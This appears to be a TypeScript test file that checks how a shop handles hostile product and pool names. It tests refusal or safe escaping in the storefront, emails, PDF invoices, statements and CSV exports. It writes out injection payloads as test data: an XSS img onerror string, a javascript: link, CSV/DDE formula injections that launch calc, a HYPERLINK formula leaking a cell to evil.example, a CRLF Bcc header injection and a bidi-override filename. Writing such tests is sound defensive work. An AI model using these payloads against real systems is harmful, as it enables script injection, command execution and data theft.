/**
 * Names of products and pools that somebody wrote to do harm, wherever customers read them: the shop,
 * mails, invoices, statements and exports (spec/money#products).
 */
import { forTests } from "@turnpike/net/testing/for-tests.ts";
import { describe, expect, it } from "vitest";
import { startPools } from "../../products/traffic/pool-testing.ts";
import { createSubAccount } from "../../products/traffic/testing.ts";
import { canReadPdf, pdfText } from "../invoice/testing.ts";

const shop = forTests(startPools);
const customer = forTests(() => shop.buyer());

const fault = async (name: string) => {
  const { code, said } = await shop.sell("hostile-refused", "mobile", { name: { en: name } });
  return [code, String(said.field).replace(/\.en$/, "")];
};

const refused = {
  "of 500 characters": "x".repeat(500),
  "with a bidirectional override": "Traffic \u202Etxt.exe",
  "with an isolate": "Traffic \u2066x",
  "with a bell": "Traffic \u0007",
  "with an escape of terminals": "Traffic \u001b[31mred",
  "with a line break": "Traffic\r\nBcc: x@example.com",
  "with a NUL": "Traffic \u0000",
  "with half a character": "Traffic \ud83d",
  "with pictures that no invoice can show": "📱🇩🇪 4G",
  "of blanks alone": " \u00a0 ",
};

const taken = {
  html: "<img src=x onerror=alert(1)> & <b>4G</b>",
  formula: '=HYPERLINK("http://evil.example/"&A1,"4G")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  markdown: "[4G](javascript:alert(1)) **fast**",
  template: "{{code}} ${code} %s 4G",
  rtl: "نقل 4G",
  long: "W".repeat(80),
};

/** What an invoice has of a name in one piece: long ones are broken, Arabic is written from the right. */
const printed: Record<string, string> = {
  html: "<img src=x",
  rtl: "4G",
  long: "W".repeat(12),
};

interface Mail {
  subject: string;
  text: string;
  html: string;
}
async function mailsTo(address: string): Promise<Mail[]> {
  const answer = await fetch(`${shop.api.url}/lab/mails?to=${encodeURIComponent(address)}`);
  return (await answer.json()) as Mail[];
}
/** A name as HTML has it as text. */
const asText = (name: string) =>
  name.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
const plainQuotes = (html: string) =>
  html.replaceAll("&quot;", '"').replaceAll("&#34;", '"').replaceAll("&#39;", "'");

async function fileOf(
  path: string,
  fields: Record<string, string>,
  more: Record<string, string> = {},
): Promise<Response> {
  const { ticket } = (await customer.call("ticket", fields)).data;
  return fetch(`${shop.api.url}${path}?${new URLSearchParams({ ticket, ...more }).toString()}`);
}

describe("A product's name", () => {
  it.each(Object.entries(refused))("%s is refused", async (_what, name) => {
    expect(await fault(name)).toEqual([1, "name"]);
  });

  it.each(Object.entries(taken))(
    "that is %s is text in the shop, mails and the invoice",
    async (kind, name) => {
      const sku = `hostile-${kind}`;
      expect(await shop.sell(sku, "mobile", { name: { en: name } })).toMatchObject({ code: 0 });
      const { products } = (await customer.call("priceList")).data;
      expect(products.find((one) => one.sku === sku)?.name).toBe(name);
      const order = await shop.buy(customer, sku, 1);
      expect(order.name).toBe(name);
      const mails = await mailsTo(await shop.emailOf(customer));
      const receipt = mails.find(({ text }) => text.includes(order.orderNo));
      // What looks like an address is broken up, so that no mail program makes a link of it.
      expect(receipt?.text.replaceAll("\u200b", "")).toContain(name);
      expect(plainQuotes(receipt?.html ?? "").replaceAll("\u200b", "")).toContain(asText(name));
      expect(receipt?.html).not.toMatch(/<img src=x|href="javascript:|<b>4G/i);
      if (!canReadPdf || !(kind in printed)) return;
      const asked = { what: "invoice", orderNo: order.orderNo };
      const pdf = await fileOf("/v1/invoice", asked);
      expect(pdfText(Buffer.from(await pdf.arrayBuffer()))).toContain(printed[kind]);
    },
  );
});

it("A pool's title is text in the shop, at home and in exports, never a formula", async () => {
  const title = "=cmd|' /C calc'!A0 <b>";
  expect((await shop.operate("pools", "add", "evil", "--title", title)).code).toBe(0);
  await shop.sell("sold-evil", "evil");
  await shop.buy(customer, "sold-evil", 1);
  const { trafficPools } = (await customer.call("member")).data;
  expect(trafficPools.find(({ pool }) => pool === "evil")?.title).toBe(title);
  const { id } = await createSubAccount(customer, "Evil0001", { main: 1, pool: "evil" });
  await shop.carry(customer.id, id, 1_000);
  const month = new Date(shop.services.world.now()).toISOString().slice(0, 7);
  const usage = await fileOf("/v1/usageExport", { what: "usage", by: "pool" }, { part: "top" });
  const statement = await fileOf("/v1/statement", { what: "statement", month });
  const files = [await usage.text(), await statement.text()];
  expect(files[0]).toContain("evil");
  for (const file of files) expect(file).not.toMatch(/(^|[,;\t\n\r"])\s*[=@+-]\D/m);
});
